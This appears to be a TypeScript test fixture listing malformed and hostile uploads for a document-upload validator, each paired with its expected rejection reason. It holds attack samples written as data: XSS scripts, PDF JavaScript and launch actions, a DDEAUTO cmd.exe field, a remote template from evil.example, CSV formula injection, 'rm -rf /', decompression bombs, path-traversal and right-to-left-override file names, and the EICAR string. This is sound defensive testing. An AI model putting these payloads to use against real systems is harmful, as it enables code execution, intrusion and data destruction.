import type { FileFault } from "#app/domain/documents/file-faults.ts";
import { LARGEST_FILE_BYTES } from "#app/domain/documents/limits.ts";
import { docx, jpeg, packed, pdf, png, xlsx } from "./good-files.ts";
import { zip } from "./zip.ts";

export type BadFile = readonly [title: string, name: string, bytes: Buffer, fault: FileFault];

const text = (words: string): Buffer => Buffer.from(words, "latin1");
const join = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => Buffer.from(part as Buffer)));
const script = "<html><script>alert(document.domain)</script></html>";
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const virus = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
const program = join("MZ\x90\x00\x03\x00\x00\x00", Buffer.alloc(200), "PE\x00\x00");
const encryptedOffice = join(Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(2_000));
const action = (words: string) => `4 0 obj\n<< /Type /Action ${words} >>\nendobj`;
const relation = (type: string) =>
  `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/x.dotm" TargetMode="External"/>`;

const pdfs: readonly BadFile[] = [
  [
    "a PDF whose catalog runs JavaScript",
    "a.pdf",
    pdf({ catalog: "/OpenAction 4 0 R", more: action("/S /JavaScript /JS (app.alert\\(1\\))") }),
    "file-active",
  ],
  [
    "a PDF that spells JavaScript with escapes",
    "b.pdf",
    pdf({ more: action("/S /J#61vaScript /J#53 (1)") }),
    "file-active",
  ],
  ["a PDF that launches a program", "c.pdf", pdf({ more: action("/S /Launch /F (cmd.exe)") }), "file-active"],
  [
    "a PDF that acts when it is opened",
    "d.pdf",
    pdf({ catalog: "/OpenAction << /S /URI /URI (https://evil.example) >>" }),
    "file-active",
  ],
  [
    "a PDF whose page acts when it is left",
    "e.pdf",
    pdf({ more: "4 0 obj\n<< /AA << /C 5 0 R >> >>\nendobj" }),
    "file-active",
  ],
  [
    "a PDF that sends a form away",
    "f.pdf",
    pdf({ more: action("/S /SubmitForm /F (https://evil.example)") }),
    "file-active",
  ],
  ["a PDF that imports data", "g.pdf", pdf({ more: action("/S /ImportData /F (x.fdf)") }), "file-active"],
  ["a PDF with a file in it", "h.pdf", pdf({ catalog: "/Names << /EmbeddedFiles 5 0 R >>" }), "file-active"],
  ["a PDF with a form of XFA", "i.pdf", pdf({ catalog: "/AcroForm << /XFA 5 0 R >>" }), "file-active"],
  [
    "a PDF with rich media",
    "j.pdf",
    pdf({ more: "4 0 obj\n<< /Subtype /RichMedia >>\nendobj" }),
    "file-active",
  ],
  [
    "a PDF that goes on in another file",
    "k.pdf",
    pdf({ more: action("/S /GoToR /F (other.pdf)") }),
    "file-active",
  ],
  [
    "a PDF with JavaScript among packed objects",
    "l.pdf",
    pdf({ more: packed("/Type /ObjStm /N 1 /First 4", "4 0 << /S /JavaScript /JS (1) >>") }),
    "file-active",
  ],
  [
    "a PDF whose packed objects are packed twice",
    "m.pdf",
    pdf({
      more: packed("/Type /ObjStm", "x").replace(
        "/Filter /FlateDecode",
        "/Filter [/ASCIIHexDecode /FlateDecode]",
      ),
    }),
    "file-active",
  ],
  ["a PDF that needs a password", "n.pdf", pdf({ more: "trailer\n<< /Encrypt 5 0 R >>" }), "file-encrypted"],
  [
    "a PDF whose packed objects are a bomb",
    "o.pdf",
    pdf({ more: packed("/Type /ObjStm", Buffer.alloc(33 * 1024 * 1024)) }),
    "file-unpacks-too-large",
  ],
  [
    "a PDF whose packed objects are damaged",
    "p.pdf",
    pdf({ more: "9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream\nendobj" }),
    "file-damaged",
  ],
  ["a PDF that is cut in the middle", "q.pdf", pdf().subarray(0, 150), "file-cut"],
  [
    "a PDF whose last line is missing",
    "r.pdf",
    text(pdf().toString("latin1").replace("%%EOF\n", "")),
    "file-cut",
  ],
  ["a PDF that is nothing but its mark", "s.pdf", text("%PDF-1.7\n"), "file-cut"],
  ["a web page before a PDF", "t.pdf", join(script, pdf()), "type-differs"],
  ["a web page after a PDF", "u.pdf", join(pdf(), script), "file-mixed"],
  ["a web page in a comment of a PDF", "v.pdf", pdf({ more: `% ${script}` }), "file-mixed"],
  ["an archive after a PDF", "w.pdf", join(pdf(), zip([{ name: "x.txt", bytes: "x" }])), "file-mixed"],
  ["a virus in a PDF", "x.pdf", pdf({ more: `% ${virus}` }), "file-malware"],
];

const pictures: readonly BadFile[] = [
  ["a drawing with a script", "a.svg", text(svg), "type-not-accepted"],
  ["a drawing that is called a picture", "b.png", text(svg), "type-differs"],
  ["a web page that is called a picture", "c.jpg", text(script), "type-differs"],
  ["a PNG that is cut in the middle", "d.png", png().subarray(0, 40), "file-cut"],
  ["a PNG with a web page behind it", "e.png", join(png(), script), "file-mixed"],
  [
    "a PNG with an archive behind it",
    "f.png",
    join(png(), zip([{ name: "x.js", bytes: "x" }])),
    "file-mixed",
  ],
  ["a PNG of four milliard pixels", "g.png", png(65_535), "file-unpacks-too-large"],
  ["a PNG that is called a JPEG", "h.jpeg", png(), "type-differs"],
  ["a JPEG that is cut in the middle", "i.jpg", jpeg().subarray(0, 40), "file-cut"],
  ["a JPEG with a program behind it", "j.jpg", join(jpeg(), program), "file-mixed"],
  ["a JPEG of four milliard pixels", "k.jpg", jpeg(65_535), "file-unpacks-too-large"],
  ["a JPEG that is called a PDF", "l.pdf", jpeg(), "type-differs"],
  ["a moving picture", "m.gif", text("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "type-not-accepted"],
];

const offices: readonly BadFile[] = [
  [
    "a document with macros",
    "a.docm",
    docx({ more: [{ name: "word/vbaProject.bin", bytes: "x" }] }),
    "type-not-accepted",
  ],
  [
    "a document with macros that is called one without",
    "b.docx",
    docx({ more: [{ name: "word/vbaProject.bin", bytes: "x" }] }),
    "file-active",
  ],
  [
    "a document of the type of those with macros",
    "c.docx",
    docx({
      contentTypes: '<Override PartName="/word/vba.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    }),
    "file-active",
  ],
  [
    "a sheet with macros of the old kind",
    "d.xlsx",
    xlsx({ more: [{ name: "xl/macrosheets/sheet1.xml", bytes: "<x/>" }] }),
    "file-active",
  ],
  [
    "a document with a control that acts",
    "e.docx",
    docx({ more: [{ name: "word/activeX/activeX1.xml", bytes: "<x/>" }] }),
    "file-active",
  ],
  [
    "a document whose template is fetched from elsewhere",
    "f.docx",
    docx({ relations: relation("attachedTemplate") }),
    "file-active",
  ],
  [
    "a document with an object of another program",
    "g.docx",
    docx({ relations: relation("oleObject") }),
    "file-active",
  ],
  [
    "a sheet that reads another sheet",
    "h.xlsx",
    xlsx({ relations: relation("externalLink") }),
    "file-active",
  ],
  [
    "a document whose field starts a program",
    "i.docx",
    docx({ body: '<w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\cmd.exe</w:instrText>' }),
    "file-active",
  ],
  [
    "a document that defines entities",
    "j.docx",
    docx({ more: [{ name: "word/x.xml", bytes: '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' }] }),
    "file-active",
  ],
  [
    "a document with a program in it",
    "k.docx",
    docx({ more: [{ name: "word/setup.exe", bytes: program }] }),
    "file-active",
  ],
  [
    "a program that is called a picture in a document",
    "l.docx",
    docx({ more: [{ name: "word/media/image1.png", bytes: program }] }),
    "file-nested",
  ],
  [
    "a document in a document",
    "m.docx",
    docx({ more: [{ name: "word/embeddings/x.docx", bytes: docx() }] }),
    "file-nested",
  ],
  [
    "an archive that is called a picture in a sheet",
    "n.xlsx",
    xlsx({ more: [{ name: "xl/media/image1.png", bytes: zip([{ name: "x", bytes: "x" }]) }] }),
    "file-nested",
  ],
  [
    "a document that unpacks a thousandfold",
    "o.docx",
    docx({ more: [{ name: "word/x.xml", bytes: Buffer.alloc(60 * 1024 * 1024) }] }),
    "file-unpacks-too-large",
  ],
  [
    "a document that claims to be small and is not",
    "p.docx",
    docx({ more: [{ name: "word/x.xml", bytes: Buffer.alloc(3_000_000), claims: 10 }] }),
    "file-damaged",
  ],
  [
    "a document of three thousand parts",
    "q.docx",
    docx({ more: Array.from({ length: 3_000 }, (_, at) => ({ name: `word/${at}.xml`, bytes: "" })) }),
    "file-unpacks-too-large",
  ],
  [
    "a document with two parts of one name",
    "r.docx",
    docx({ more: [{ name: "word/document.xml", bytes: "<x/>" }] }),
    "file-damaged",
  ],
  [
    "a document with a part that leads out of its folder",
    "s.docx",
    docx({ more: [{ name: "../../etc/passwd", bytes: "x" }] }),
    "file-damaged",
  ],
  [
    "a document with a part that needs a password",
    "t.docx",
    docx({ more: [{ name: "word/x.xml", bytes: "x", isEncrypted: true }] }),
    "file-encrypted",
  ],
  ["a document that needs a password", "u.docx", encryptedOffice, "file-encrypted"],
  ["a document that is cut in the middle", "v.docx", docx().subarray(0, 400), "file-cut"],
  ["a document with a web page behind it", "w.docx", join(docx(), script), "file-cut"],
  ["a document with words after its end", "x.docx", docx({ comment: script }), "file-mixed"],
  ["an archive that is called a document", "y.docx", zip([{ name: "x.txt", bytes: "x" }]), "type-differs"],
  ["a sheet that is called a document", "z.docx", xlsx(), "type-differs"],
  ["a virus in a sheet", "virus.xlsx", join(xlsx(), virus), "file-malware"],
];

const others: readonly BadFile[] = [
  ["the makers' test virus", "a.pdf", text(virus), "file-malware"],
  ["a program that is called a PDF", "b.pdf", program, "type-differs"],
  ["a program", "c.exe", program, "type-not-accepted"],
  ["an archive", "d.zip", zip([{ name: "x.pdf", bytes: pdf() }]), "type-not-accepted"],
  ["a web page", "e.html", text(script), "type-not-accepted"],
  ["a list of values", "f.csv", text("=cmd|' /C calc'!A0,1\n"), "type-not-accepted"],
  ["a shell script that is called a PDF", "g.pdf", text("#!/bin/sh\nrm -rf /\n"), "type-differs"],
  ["an empty file", "h.pdf", Buffer.alloc(0), "file-empty"],
  ["zeros", "i.pdf", Buffer.alloc(5_000), "type-differs"],
  [
    "one byte too many",
    "j.pdf",
    join(pdf(), Buffer.alloc(LARGEST_FILE_BYTES + 1 - pdf().length)),
    "file-too-large",
  ],
];

/** Files that are not taken, each with the one reason that is told. */
export const badFiles: readonly BadFile[] = [...pdfs, ...pictures, ...offices, ...others];

/** Names that are not taken, as a script of ours would announce them. */
export const badNames: readonly (readonly [title: string, name: string, fault: FileFault])[] = [
  ["a name that is a path", "../../etc/passwd.pdf", "name-unusable"],
  ["a name that is a path of Windows", "C:\\windows\\x.pdf", "name-unusable"],
  ["a name that turns what follows", "invoice\u202efdp.pdf", "name-unusable"],
  ["a name with a control character", "a\u0007b.pdf", "name-unusable"],
  ["a name with a character that nobody sees", "a\u200bb.pdf", "name-unusable"],
  ["a name that is a device", "CON.pdf", "name-unusable"],
  ["a name of dots", "...pdf", "name-unusable"],
  ["a name that hides a program", "invoice.exe.pdf", "name-unusable"],
  ["a name with spaces around it", " a .pdf", "name-unusable"],
  ["a name without end", `${"x".repeat(200)}.pdf`, "name-unusable"],
  ["a name without an ending", "statement", "type-not-accepted"],
];
